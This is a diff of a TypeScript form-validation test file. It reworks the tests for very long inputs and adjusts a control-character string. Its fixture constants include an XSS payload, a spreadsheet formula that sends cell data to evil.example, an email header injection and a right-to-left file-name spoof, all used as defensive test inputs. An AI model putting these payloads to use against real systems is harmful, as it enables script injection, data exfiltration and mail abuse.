@@ -30,7 +30,7 @@ function keysOf(field: FormField, values: FormValues): string[] {
 const html = '<img src=x onerror=alert(1)><script>alert(1)</script>';
 const formula = '=HYPERLINK("https://evil.example?x="&A1)';
 const header = 'a@example.org\r\nBcc: everyone@example.org';
-const controls = 'a\0b\u0007c\u001b[2Jd\u202egnp.exe\ud800\u2028e';
+const controls = 'a\0b\u0007c\u001b[2Jd\u202e\u200eg\u200fnp.exe\ud800\u2028e';
 
 /** By type: an input in a form, and what is said of it; nothing where it is kept as a text that does nothing. */
 const posted: [FormField['type'], string, string[]][] = [
@@ -177,31 +177,32 @@ describe('FRM-14 a value of another shape is refused, and never makes a rule fai
 });
 
 describe('FRM-14 the largest input is judged at once', () => {
+  // A rule that goes through a text anew for each of its characters would take longer than a test may.
   const long = 100_000;
-  const texts = ['a', ' ', '1', '.', '-', "a'", 'a@', '@a.', '\n', '\r', '\0', '\ud800', '1,', 'a '].map((text) =>
-    text.repeat(Math.ceil(long / text.length)),
-  );
+  const whole = (text: string) => text.repeat(Math.ceil(long / text.length));
+  const texts = ['email', 'hidden', 'multiLineText', 'singleLineText', 'name', 'phone'];
 
-  /** The rules for all fields at once, with this in each of them. */
-  function judge(text: string): number {
+  /** The fields that are too long with this in each of them. */
+  function tooLong(text: string): (string | null)[] {
     const entries = all.flatMap(({ handle }) =>
       [handle, `${handle}.firstName`, `${handle}.country`, `${handle}.file`].map((name) => [name, text] as const),
     );
-    const begin = performance.now();
-    formProblems(exampleForm(all), readValues(all, entries));
-    return performance.now() - begin;
+    const problems = formProblems(exampleForm(all), readValues(all, entries));
+    return problems.filter(({ key }) => key === 'tooLong').map(({ handle }) => handle);
   }
 
-  it.each(texts.map((text) => [text.slice(0, 2), text]))('100,000 characters of %j', (_, text) => {
-    expect(judge(text)).toBeLessThan(500);
-  });
+  it.each(['a', '1', '.', '-', "a'", 'a@', '@a.', '1,', 'a '])('100,000 characters of %j', (text) =>
+    expect(tooLong(whole(text))).toEqual(texts),
+  );
+
+  it.each([' ', '\n', '\r', '\0', '\ud800'])('100,000 characters of %j, which say nothing', (text) =>
+    expect(tooLong(whole(text))).toEqual([]),
+  );
 
   it('100,000 choices, and as many files', () => {
     const entries: FormEntries = Array.from({ length: long }, (_, index) => ['checkboxes', `x${index}`] as const);
     const files: FormEntries = Array.from({ length: long }, () => ['fileUpload', { name: 'a.pdf', size: 1 }] as const);
-    const begin = performance.now();
     expect(keysOf(fields.Checkboxes, readValues(all, entries))).toEqual(['noOption']);
     expect(keysOf(fields.FileUpload, readValues(all, files))).toEqual(['tooManyFiles']);
-    expect(performance.now() - begin).toBeLessThan(1000);
   });
 });
